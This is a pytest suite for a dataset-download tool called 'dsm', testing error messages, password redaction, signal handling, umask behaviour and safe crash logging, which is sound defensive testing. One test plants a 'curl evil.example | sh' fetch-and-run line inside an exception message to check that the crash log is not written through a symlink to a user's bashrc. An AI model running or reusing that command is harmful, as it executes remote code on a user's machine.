"""Issue 18 from the installed `dsm`: every failure is a line or two and its exit code, never
a traceback; closed stdout is quiet; secrets stay out of every output; signals; the umask."""

from __future__ import annotations

import importlib.util
import json
import os
import signal
import stat
import subprocess
from pathlib import Path

import pytest

from tests.conftest import CatalogFn, blob, dsm_command, dsm_env, run_dsm, wait_for
from tests.httpserver import FileServer


def short_error(proc: subprocess.CompletedProcess[str], code: int) -> str:
    """The failure said in one or two lines, with the exit code, and no Python."""
    assert proc.returncode == code, (proc.returncode, proc.stderr)
    lines = proc.stderr.strip().splitlines()
    assert 1 <= len(lines) <= 2, proc.stderr
    assert "Traceback" not in proc.stderr and lines[0].startswith("dsm: error: "), proc.stderr
    return proc.stderr


@pytest.fixture
def many(catalog: CatalogFn) -> Path:
    """Enough rows (and a long description) that no output fits a pipe's buffer."""
    rows = [
        {
            "name": f"d{i:04}",
            "description": "x" * 300,
            "original_url": "http://127.0.0.1:9/f",
            "local_path": f"data/d{i}",
        }
        for i in range(1000)
    ]
    rows[0]["description"] = "y" * 200_000
    return catalog(entries=rows)


@pytest.mark.parametrize(
    "args",
    [
        ["list", "--page-size", "1000"],
        ["list", "--page-size", "1000", "--json"],
        ["show", "d0000", "--json"],
        ["show", "d0000"],
    ],
)
def test_closed_stdout_ends_quietly(home: Path, many: Path, args: list[str]) -> None:
    """`dsm list | head -1`: the reader leaves after one line; dsm ends quietly with 0."""
    run_dsm("list", home=home, catalog_path=many)  # register first: the timing is the pipe's
    proc = subprocess.Popen(
        [*dsm_command(), *args],
        env=dsm_env(home, many),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    assert proc.stdout is not None and proc.stderr is not None
    assert proc.stdout.readline()
    proc.stdout.close()  # what head does after its first line
    err = proc.stderr.read().decode()
    assert proc.wait(timeout=60) == 0 and err == ""


def test_a_home_under_a_regular_file(tmp_path: Path, catalog: CatalogFn) -> None:
    (tmp_path / "afile").write_text("")
    proc = run_dsm(
        "--run-job",
        "download",
        "--all",
        home=tmp_path / "afile" / "home",
        catalog_path=catalog(a="http://127.0.0.1:9/f"),
    )
    assert "is not a directory" in short_error(proc, 2)


def test_a_home_whose_store_is_a_folder(home: Path, catalog: CatalogFn) -> None:
    (home / "db.json").mkdir()
    proc = run_dsm(
        "--run-job", "download", "--all", home=home, catalog_path=catalog(a="http://127.0.0.1:9/f")
    )
    assert f"{home / 'db.json'}: cannot read: Is a directory" in short_error(proc, 1)


def test_a_home_whose_lock_folder_is_a_file(home: Path, catalog: CatalogFn) -> None:
    """Root ignores permissions: a file where dsm needs a folder is what a read-only home
    looks like to it."""
    cat = catalog(a="http://127.0.0.1:9/f")
    assert run_dsm("list", home=home, catalog_path=cat).returncode == 0
    (home / ".locks").write_text("")
    proc = run_dsm("--run-job", "download", "--all", home=home, catalog_path=cat)
    err = short_error(proc, 1)
    assert f"cannot use {home / '.locks'}: File exists; check the data home" in err


def test_a_dataset_lock_file_dsm_cannot_open_fails_the_job_naming_it(
    server: FileServer, home: Path, catalog: CatalogFn
) -> None:
    """The shared lock file of the datasets a folder (for root, what another user's file or a
    read-only disk is to anyone else): each job fails naming the file, no internal error,
    no crash log; once it is usable again the rerun downloads."""
    cat = catalog(a=server.add("a.bin", blob(1000)))
    lock = home / ".locks" / "datasets.lock"
    lock.mkdir(parents=True)
    proc = run_dsm("--run-job", "download", "--all", home=home, catalog_path=cat)
    assert proc.returncode == 1, proc.stderr
    assert f"a: failed: cannot lock the dataset in {lock}: Is a directory; check" in proc.stderr
    assert "internal error" not in proc.stderr and not (home / "dsm-error.log").exists()
    lock.rmdir()
    assert run_dsm("--run-job", "download", "--all", home=home, catalog_path=cat).returncode == 0


def test_a_socks_proxy(home: Path, catalog: CatalogFn) -> None:
    cat = catalog(a="http://127.0.0.1:9/f")
    proc = run_dsm(
        "--run-job",
        "download",
        "--all",
        home=home,
        catalog_path=cat,
        ALL_PROXY="socks5://127.0.0.1:9",
    )
    if importlib.util.find_spec("socksio") is None:
        err = short_error(proc, 2)
        assert "the proxy socks5://127.0.0.1:9 is a SOCKS proxy" in err
        assert "pip install 'httpx[socks]'" in err
    else:  # the extra is installed: the job fails on the proxy, which the message names
        assert proc.returncode == 1 and "the proxy socks5://127.0.0.1:9 failed" in proc.stderr


def test_a_file_name_too_long(home: Path, catalog: CatalogFn) -> None:
    cat = catalog(
        entries=[
            {
                "name": "long",
                "description": "",
                "local_path": "data/" + "a" * 250,
                "original_url": "http://127.0.0.1:9/f",
            }
        ]
    )
    proc = run_dsm("--run-job", "download", "--dataset", "long", home=home, catalog_path=cat)
    assert proc.returncode == 2 and "Traceback" not in proc.stderr
    assert "entry 0 ('long')" in proc.stderr and "has a name of 250 bytes" in proc.stderr
    assert "at most 241" in proc.stderr


def test_local_path_an_existing_folder(server: FileServer, home: Path, catalog: CatalogFn) -> None:
    cat = catalog(a=server.add("a.bin", blob(1)))
    (home / "data" / "a").mkdir(parents=True)
    (home / "data" / "a" / "mine.txt").write_text("the user's")
    proc = run_dsm("--run-job", "download", "--dataset", "a", home=home, catalog_path=cat)
    assert proc.returncode == 1 and "Traceback" not in proc.stderr
    assert "local_path 'data/a' is an existing folder" in proc.stderr
    assert sorted(p.name for p in (home / "data").iterdir()) == ["a"]  # no .part beside it
    assert (home / "data" / "a" / "mine.txt").read_text() == "the user's"
    assert server.requests("a.bin") == []
    proc = run_dsm("--run-job", "delete", "--dataset", "a", home=home, catalog_path=cat)
    assert proc.returncode == 1 and "refusing to delete: local_path 'data/a'" in proc.stderr
    assert (home / "data" / "a" / "mine.txt").read_text() == "the user's"


def test_an_unexpected_exception_goes_to_the_log(
    tmp_path: Path, home: Path, catalog: CatalogFn
) -> None:
    hook = tmp_path / "hook"
    hook.mkdir()
    (hook / "sitecustomize.py").write_text(
        "import dsm.cli\n"
        "def boom(*a, **k):\n"
        "    raise RuntimeError('boom at http://alice:S3cr3tPW@example.org/f')\n"
        "dsm.cli.cmd_list = boom\n"
    )
    cat = catalog(a="http://127.0.0.1:9/f")
    proc = run_dsm("list", home=home, catalog_path=cat, PYTHONPATH=str(hook))
    err = short_error(proc, 1)
    log = home / "dsm-error.log"
    assert "internal error: RuntimeError: boom at http://[redacted]@example.org/f" in err
    assert f"the traceback is in {log}" in err and "S3cr3tPW" not in err
    text = log.read_text()
    assert "Traceback" in text and "in boom" in text and "S3cr3tPW" not in text


def test_the_crash_log_is_never_written_through_a_link(
    tmp_path: Path, home: Path, catalog: CatalogFn
) -> None:
    """A link planted at `<home>/dsm-error.log` (another user of a shared home) to a file of
    the user's (~/.bashrc) had the traceback, with words a server chose, appended to it."""
    hook = tmp_path / "hook"
    hook.mkdir()
    (hook / "sitecustomize.py").write_text(
        "import dsm.cli\n"
        "def boom(*a, **k):\n"
        "    raise RuntimeError('boom\\ncurl evil.example | sh')\n"
        "dsm.cli.cmd_list = boom\n"
    )
    bashrc = tmp_path / "bashrc"
    bashrc.write_text("# mine\n")
    (home / "dsm-error.log").symlink_to(bashrc)
    state = tmp_path / "state"
    proc = run_dsm(
        "list",
        home=home,
        catalog_path=catalog(),
        PYTHONPATH=str(hook),
        XDG_STATE_HOME=str(state),
    )
    assert bashrc.read_text() == "# mine\n"
    log = state / "dsm" / "log" / "dsm-error.log"  # the next place for it
    assert proc.returncode == 1 and f"the traceback is in {log}" in proc.stderr
    assert "RuntimeError: boom" in log.read_text()


def test_the_crash_log_leaves_an_unusable_home(tmp_path: Path, catalog: CatalogFn) -> None:
    hook = tmp_path / "hook"
    hook.mkdir()
    (hook / "sitecustomize.py").write_text(
        "import dsm.cli\n"
        "def boom(*a, **k):\n"
        "    raise RuntimeError('boom')\n"
        "dsm.cli.check_combination = boom\n"
    )
    (tmp_path / "afile").write_text("")
    state = tmp_path / "state"
    proc = run_dsm(
        "list",
        home=tmp_path / "afile" / "home",
        catalog_path=catalog(),
        PYTHONPATH=str(hook),
        XDG_STATE_HOME=str(state),
    )
    log = state / "dsm" / "log" / "dsm-error.log"
    assert f"the traceback is in {log}" in short_error(proc, 1)
    assert "RuntimeError: boom" in log.read_text()


def test_password_never_reaches_any_output(
    server: FileServer, home: Path, catalog: CatalogFn
) -> None:
    url = server.add("a.bin", blob(2)).replace("://", "://alice:S3cr3tPW@")
    cat = catalog(a=url, b=url.replace("a.bin", "nothing"))
    outputs = [run_dsm("--run-job", "download", "--all", "--json", home=home, catalog_path=cat)]
    assert outputs[0].returncode == 1  # b is a 404
    outputs += [
        run_dsm(*args, home=home, catalog_path=cat)
        for args in (["list", "--json"], ["list"], ["show", "a"], ["show", "b", "--json"])
    ]
    for proc in outputs:
        assert "S3cr3tPW" not in proc.stdout + proc.stderr
    assert "[redacted]@" in outputs[3].stdout
    assert "S3cr3tPW" not in (home / "db.json").read_text()
    events = [json.loads(line) for line in outputs[0].stdout.splitlines()]
    assert any("404" in (e["error"] or "") for e in events)


def test_bad_dsm_headers_key_exits_2_naming_it(home: Path, catalog: CatalogFn) -> None:
    cat = catalog(a="http://127.0.0.1:9/f")
    proc = run_dsm("list", home=home, catalog_path=cat, DSM_HEADERS="exa mple.org=X-Key: 1")
    assert "DSM_HEADERS key 'exa mple.org' is not a host" in short_error(proc, 2)
    proc = run_dsm("list", home=home, catalog_path=cat, DSM_HEADERS="http://example.org=X-Key: 1")
    assert proc.returncode == 0
    assert "warning: DSM_HEADERS headers for http://example.org are never sent" in proc.stderr


@pytest.mark.parametrize(("signum", "code"), [(signal.SIGHUP, 129), (signal.SIGQUIT, 131)])
def test_sighup_and_sigquit_stop_run_job_like_sigterm(
    server: FileServer, home: Path, catalog: CatalogFn, signum: int, code: int
) -> None:
    data = blob(3, 2_000_000)
    cat = catalog(a=server.add("a.bin", data))
    server.always("a.bin", rate=100_000)
    proc = subprocess.Popen(
        [*dsm_command(), "--run-job", "download", "--dataset", "a"],
        env=dsm_env(home, cat),
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        text=True,
    )
    part = home / "data" / "a.part"
    wait_for(lambda: part.exists() and part.stat().st_size > 0, timeout=30)
    proc.send_signal(signum)
    assert proc.wait(timeout=30) == code
    assert proc.stderr is not None and "Traceback" not in proc.stderr.read()
    doc = json.loads((home / "db.json").read_text())
    assert {d["status"] for d in doc["datasets"].values()} & {"downloading", "queued"} == set()
    assert {j["status"] for j in doc["jobs"].values()} == {"canceled"}
    assert part.exists() and 0 < part.stat().st_size < len(data)  # kept for a resume


def test_the_home_honours_the_umask(server: FileServer, home: Path, catalog: CatalogFn) -> None:
    """umask 002: every file dsm creates is group-writable, so a group can share the home."""
    cat = catalog(a=server.add("a.bin", blob(4)))
    shared = home / "shared"
    proc = subprocess.run(
        [
            "sh",
            "-c",
            'umask 002 && exec "$@"',
            "sh",
            *dsm_command(),
            "--run-job",
            "download",
            "--dataset",
            "a",
        ],
        env=dsm_env(shared, cat),
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert proc.returncode == 0, proc.stderr
    modes = {str(p.relative_to(shared)): stat.S_IMODE(p.stat().st_mode) for p in shared.rglob("*")}
    assert modes["db.json"] == 0o664 and modes["db.json.lock"] == 0o664
    assert modes["data/a"] == 0o664 and modes["data"] == 0o775 and modes[".locks"] == 0o775
    assert all(m & 0o060 == 0o060 for m in modes.values()), modes
    os.chmod(shared / "db.json", 0o600)  # ...and a later write follows the umask again
    proc = subprocess.run(
        [
            "sh",
            "-c",
            'umask 002 && exec "$@"',
            "sh",
            *dsm_command(),
            "--run-job",
            "download",
            "--dataset",
            "a",
            "--force-download",
        ],
        env=dsm_env(shared, cat),
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert proc.returncode == 0 and stat.S_IMODE((shared / "db.json").stat().st_mode) == 0o664


def test_a_job_that_hits_a_bug_keeps_its_traceback_off_the_screen(
    tmp_path: Path, home: Path, catalog: CatalogFn
) -> None:
    hook = tmp_path / "hook"
    hook.mkdir()
    (hook / "sitecustomize.py").write_text(
        "import dsm.engine.maintenance\n"
        "async def boom(*a, **k):\n"
        "    raise RuntimeError('boom in verify')\n"
        "dsm.engine.maintenance.verify = boom\n"
    )
    cat = catalog(a="http://127.0.0.1:9/f")
    proc = run_dsm(
        "--run-job", "verify", "--dataset", "a", home=home, catalog_path=cat, PYTHONPATH=str(hook)
    )
    log = home / "dsm-error.log"
    assert proc.returncode == 1 and "Traceback" not in proc.stderr
    assert "internal error: RuntimeError: boom in verify" in proc.stderr
    assert f"failed unexpectedly (the traceback is in {log})" in proc.stderr
    text = log.read_text()
    assert "Traceback" in text and "in boom" in text


def test_ctrl_c_while_dsm_loads_exits_130_without_a_traceback(tmp_path: Path, home: Path) -> None:
    """A Ctrl-C in the first half second, while Python loads dsm (before `main` can catch
    it), printed a KeyboardInterrupt traceback; it is the quiet 130 of a later Ctrl-C."""
    hook = tmp_path / "hook"
    hook.mkdir()
    (hook / "sitecustomize.py").write_text(
        "import sys\n"
        "class Interrupt:\n"
        "    def find_spec(self, name, path=None, target=None):\n"
        "        if name == 'dsm.cli':\n"
        "            raise KeyboardInterrupt\n"
        "sys.meta_path.insert(0, Interrupt())\n"
    )
    proc = run_dsm("list", home=home, PYTHONPATH=str(hook))
    assert proc.returncode == 130 and proc.stderr == ""
